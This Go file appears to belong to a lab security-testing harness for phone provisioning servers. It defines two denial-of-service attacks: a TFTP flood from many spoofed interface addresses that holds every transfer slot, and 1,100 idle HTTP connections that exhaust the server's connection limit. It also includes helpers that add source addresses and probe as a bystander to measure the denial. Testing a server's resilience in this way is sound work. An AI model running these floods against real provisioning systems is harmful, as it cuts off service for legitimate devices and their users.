package phone

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"
)

// Resource hogs: they try to deny provisioning to everyone else rather
// than to steal. Each floods from its own addresses, then asks as a
// bystander (an address it did not flood from); a bystander left
// unanswered is what the hog denied, reported in Attack.Denied.
const (
	// TFTPHog sends read requests for a vendor common file from many
	// addresses (-sources) and never acknowledges a block, to hold every
	// transfer slot.
	TFTPHog = "tftp-hog"
	// ConnHog opens 1,100 keep-alive HTTP connections from its own
	// address and leaves them idle, to hold every connection the server
	// allows.
	ConnHog = "conn-hog"
)

// Bounds of the hogs, so the lab stays fast.
const (
	// 54 addresses x 16 = 864 requests: well over the 512 transfers a
	// server holds by default even when a loaded machine drops some (at
	// 10 a source, 48 of 540 were lost once and the sabotaged lab passed).
	tftpHogPerSource = 16              // requests per flood address
	connHogConns     = 1100            // idle connections (the finding's count)
	hogProbeFor      = 6 * time.Second // how long the bystander keeps asking
)

// sourceRange parses -sources "FIRST-LAST" (IPv4, at most 256 addresses).
func sourceRange(s string) ([]netip.Addr, error) {
	first, last, ok := strings.Cut(s, "-")
	a, err1 := netip.ParseAddr(first)
	b, err2 := netip.ParseAddr(last)
	if !ok || err1 != nil || err2 != nil || !a.Is4() || !b.Is4() || b.Less(a) {
		return nil, fmt.Errorf("sources %q: want FIRST-LAST, two IPv4 addresses in order", s)
	}
	var out []netip.Addr
	for ip := a; ip.Compare(b) <= 0 && len(out) < 256; ip = ip.Next() {
		out = append(out, ip)
	}
	return out, nil
}

// addSources puts the -sources addresses on the interface, in the
// lease's network.
func (a *Attacker) addSources(l *Lease) ([]netip.Addr, error) {
	srcs, err := sourceRange(a.Sources)
	if err != nil {
		return nil, err
	}
	ones, _ := l.Mask.Size()
	for _, ip := range srcs {
		if err := ipCmd("addr", "add", fmt.Sprintf("%s/%d", ip, ones), "dev", a.Iface); err != nil {
			return nil, err
		}
	}
	return srcs, nil
}

// commonFile is the first of the vendor's files that carries no MAC:
// answered to anyone, and no strike.
func commonFile(p *Profile, mac net.HardwareAddr) string {
	for _, s := range p.Files(mac) {
		if !strings.Contains(s.Name, hexMAC(mac)) && !strings.Contains(s.Name, upperMAC(mac)) {
			return s.Name
		}
	}
	return p.Files(mac)[0].Name
}

// probe asks until ask succeeds or hogProbeFor has passed.
func probe(ctx context.Context, ask func() bool) bool {
	end := time.Now().Add(hogProbeFor)
	for time.Now().Before(end) && ctx.Err() == nil {
		if ask() {
			return true
		}
		time.Sleep(500 * time.Millisecond)
	}
	return false
}
